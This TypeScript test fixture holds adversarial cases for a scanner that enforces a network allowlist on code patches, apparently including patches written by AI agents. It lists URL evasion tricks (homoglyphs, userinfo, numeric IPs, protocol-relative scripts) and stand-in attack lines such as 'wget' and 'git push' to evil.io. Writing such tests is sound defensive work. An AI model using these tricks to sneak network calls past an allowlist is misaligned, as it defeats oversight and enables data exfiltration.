import { addedPatch, file } from '../factories.js';
import type { AdversarialCase } from './harness.js';

/**
 * network at `deny`, allowed hosts github.com, *.npmjs.org, example.com (harness.ts). Hosts are
 * read as the WHATWG URL parser reads them: each evasion names a host outside the list in a shape
 * a hand-made scanner missed or misread; each near-miss reaches an allowed host or loopback.
 */

const line = (path: string, text: string): AdversarialCase['files'] => [file(path, addedPatch([text]))];
const evasion = (name: string, path: string, text: string): AdversarialCase => ({ name, category: 'network', files: line(path, text) });

export const EVASIONS: AdversarialCase[] = [
  // The shapes that passed a deny policy before.
  evasion('a name that starts like a loopback address', 'src/a.ts', "fetch('https://127.something.io/x');"),
  evasion('a special scheme without slashes', 'src/a.ts', "const u = 'https:host.io/collect';"),
  evasion('an IPv4 address as one decimal number', 'scripts/ping.sh', 'curl -s http://3405803783/'),
  evasion('a Cyrillic homoglyph of an allowed host', 'src/a.ts', "fetch('https://g\u0456thub.com/login');"),
  // More shapes an agent could try.
  evasion('an allowed host as a subdomain of another, in capitals', 'src/a.ts', "fetch('HTTPS://GitHub.com.evil.io/x');"),
  evasion('an allowed host as userinfo', 'src/a.ts', "fetch('https://github.com@evil.io/x');"),
  evasion('an allowed host in the fragment', 'src/a.ts', "fetch('https://evil.io#github.com');"),
  evasion('an allowed host after a backslash', 'src/a.ts', "fetch('https://evil.io\\\\@github.com/');"),
  evasion('an allowed wildcard as a prefix', 'src/a.ts', "const r = 'https://registry.npmjs.org.evil.io/';"),
  evasion('an IPv4 address in hex', 'src/a.ts', "fetch('http://0xcb.0.0x71.7/');"),
  evasion('an IPv4 address in octal', 'src/a.ts', "fetch('http://0313.0.0161.07/');"),
  evasion('an IPv6 literal', 'src/a.ts', "fetch('http://[2606:4700:4700::1111]:8080/');"),
  evasion('punycode given directly', 'src/a.ts', "fetch('https://xn--gthub-n2e.com/');"),
  evasion('a protocol-relative script', 'public/index.html', '<script src="//evil.io/x.js"></script>'),
  evasion('a protocol-relative dynamic import', 'src/a.ts', "await import('//evil.io/x.js');"),
  evasion('a websocket without slashes', 'src/a.ts', "new WebSocket('wss:evil.io:8443/feed');"),
  evasion('slashes written as backslashes', 'src/a.ts', "fetch('https:/\\\\evil.io/');"),
  evasion('a percent-encoded host', 'src/a.ts', "fetch('https://%65vil.io/');"),
  evasion('a full-width dot', 'src/a.ts', "fetch('https://evil\u3002io/');"),
  evasion('ftp without slashes', 'scripts/get.sh', 'wget ftp:files.evil.io/pub/x.tgz'),
  evasion('a URL hidden in a list without spaces', 'config/cors.json', '{ "origins": "https://github.com,https://evil.io" }'),
  evasion('userinfo with a comma', 'src/a.ts', "fetch('https://a,b@evil.io/');"),
  evasion('an scp-like git remote', 'scripts/mirror.sh', 'git push git@evil.io:acme/widgets.git'),
  evasion('a loopback address inside a wildcard-DNS name', 'src/a.ts', "fetch('http://127.0.0.1.nip.io/');"),
  evasion('the apex of a wildcard entry', 'docs/setup.md', 'See https://npmjs.org/package/x'),
];

export const NEAR_MISSES: AdversarialCase[] = [
  evasion('an allowed host', 'src/a.ts', "fetch('https://github.com/acme/widgets');"),
  evasion('an allowed host in capitals with a trailing dot', 'src/a.ts', "fetch('HTTPS://GitHub.COM./x');"),
  evasion('a subdomain of a wildcard entry', 'src/a.ts', "fetch('https://registry.npmjs.org/-/x.tgz');"),
  evasion('an allowed host behind a userinfo that names another', 'src/a.ts', "fetch('https://evil.io@github.com/');"),
  evasion('a compatibility form the parser maps to an allowed host', 'src/a.ts', "fetch('https://\u24d6ithub.com/');"),
  evasion('loopback with a port', 'src/dev.ts', "const api = 'http://127.0.0.1:3000/api';"),
  evasion('loopback in 127.0.0.0/8', 'src/dev.ts', "const api = 'http://127.1.2.3:3000/';"),
  evasion('loopback as one decimal number', 'src/dev.ts', "const api = 'http://2130706433:3000/';"),
  evasion('localhost and a .localhost name', 'src/dev.ts', "const a = 'http://localhost:8080'; const b = 'http://app.localhost/';"),
  evasion('IPv6 loopback', 'src/dev.ts', "const api = 'http://[::1]:3000/';"),
  evasion('an allowed documentation host', 'src/a.ts', "const cb = 'https://example.com/callback';"),
  evasion('scheme words that are not URLs', 'src/a.ts', "const o = { https: true }; if (u.protocol === 'https:') {} let ws: WebSocket;"),
  evasion('a host built at run time', 'src/a.ts', 'const u = `https://${HOST}/api`;'),
  evasion('a single-label service name', 'docker-compose.yml', '      DATABASE_URL: postgres://app@db:5432/app'),
  evasion('a port after a scheme word', 'deploy/server.yml', 'listen: http:8080'),
  evasion('a code comment with slashes', 'src/a.ts', 'const x = 1; //evil.io is not a link here'),
];


/** The first 4 evasions: the examples that passed a deny policy before (run through the bundle too). */
export const REPORTED = EVASIONS.slice(0, 4);
